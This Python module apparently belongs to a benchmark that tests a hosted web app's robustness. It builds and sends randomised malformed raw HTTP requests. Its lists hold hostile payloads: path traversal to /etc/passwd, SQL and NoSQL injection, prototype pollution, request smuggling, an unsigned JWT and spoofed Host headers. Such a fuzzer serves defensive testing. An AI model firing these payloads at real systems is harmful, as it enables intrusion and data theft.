"""What people who know HTTP would try: bytes that are none, paths that climb, numbers and names at their limits."""

from __future__ import annotations

import random
import socket
from typing import Final
from urllib.parse import urlsplit

from benchmarks.hosting.attacks.victims import Victims

PATHS: Final = [
    "/../../etc/passwd",
    "/..%2f..%2fetc/passwd",
    "/%2e%2e/%2e%2e/meadhall.sqlite",
    "/assets/../../settings.py",
    "/api/tables/%00",
    "/api/tables/{table}/position?seat=99999999999999999999",
    "/api/tables/{table}/position?seat=-1&seat=1",
    "/api/tables/{table}/position?seat=1e309",
    "/api/tables/{table}/replay?move=-1",
    "/api/tables/{table}/replay?openly=true",
    "/api/tables/{table}/record",
    "/api/tables/{table}/log?before=0",
    "/api/tables/' OR 1=1 --/position",
    "/api/host/people",
    "/metrics",
    "/schema/../api/me",
    "//evil.example/",
    "/\u202e",
    "/api/me/data?person=victim0",
    "*",
]
HEADERS: Final = [
    "Content-Length: -1",
    "Content-Length: 99999999999",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: 3",
    "Cookie: meadhall=" + "A" * 4000,
    "Cookie: meadhall=eyJhbGciOiJub25lIn0.e30.",
    "Authorization: Bearer " + "x" * 300,
    "X-Forwarded-For: " + ", ".join(["127.0.0.1"] * 100),
    "X-Forwarded-For: ::ffff:\x00",
    "Host: evil.example",
    "Host: ",
    "Origin: https://evil.example",
    "Range: bytes=0-0,5-1,-1",
    "Accept-Encoding: \xff",
    "Content-Type: application/json; charset=utf-7",
    "Content-Type: multipart/form-data; boundary=" + "b" * 500,
    "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 99",
    "If-None-Match: " + '"' * 200,
    "Expect: 100-continue",
    "Cookie: {cookie}",
]
BODIES: Final = [
    b"",
    b"{",
    b"null",
    b"[" * 3000,
    b'{"seat": 0, "number": 1, "option": "\\ud800"}',
    b'{"name": "\\u0000"}',
    b'{"account": "victim0", "password": {"$ne": null}}',
    b'{"account": "victim0", "password": "correct hors"}',
    b'{"__proto__": {"is_host": true}, "name": "x"}',
    b'{"name": "x", "is_host": true}',
    b'{"game": "../../x", "seats": []}',
    b'{"text": "' + b"x" * 70_000 + b'"}',
    b"\x00\xff\xfe" * 50,
    b"0\r\n\r\nGET /api/me HTTP/1.1\r\nHost: localhost\r\n\r\n",
    '{"seat": ١, "number": 1}'.encode(),
]
METHODS: Final = ["GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "TRACE", "get", "G\x00ET", "PRI"]
ROUTES: Final = ["/api/me", "/api/sign-in", "/api/tables", "/api/tables/{table}/choose", "/api/tables/{table}/undo"]


def attack(victims: Victims, count: int, number: int) -> None:
    """So many connections, each with one thing that is wrong, or several."""
    chance = random.Random(number)
    for _ in range(count):
        path = chance.choice(PATHS if chance.random() < 0.5 else ROUTES).replace("{table}", victims.table)
        headers = [chance.choice(HEADERS).replace("{cookie}", victims.cookie) for _ in range(chance.randrange(3))]
        body = chance.choice(BODIES)
        if not any(header.startswith("Host") for header in headers):
            headers.append("Host: localhost")
        if not any("Length" in header or "Transfer" in header for header in headers):
            headers.append(f"Content-Length: {len(body)}")
        head = "\r\n".join([f"{chance.choice(METHODS)} {path} HTTP/1.1", *headers, "Connection: close"])
        raw = head.encode("utf-8", "replace") + b"\r\n\r\n" + body
        if chance.random() < 0.1:
            raw = raw[: chance.randrange(len(raw))] + chance.randbytes(20)
        _send(victims, raw)


def _send(victims: Victims, raw: bytes) -> None:
    url = urlsplit(victims.address)
    victims.sent += 1
    answer = b""
    with socket.create_connection((url.hostname or "", url.port or 80), timeout=60) as line:
        try:
            line.sendall(raw)
            line.shutdown(socket.SHUT_WR)
            while part := line.recv(65_536):
                answer += part
        except OSError:
            victims.kinds["cut off"] += 1
    words = answer.split(b" ", 2)
    status = words[1].decode("latin-1") if len(words) > 1 else "no answer"
    victims.heard(status, answer.decode("utf-8", "replace"), repr(raw[:200]))
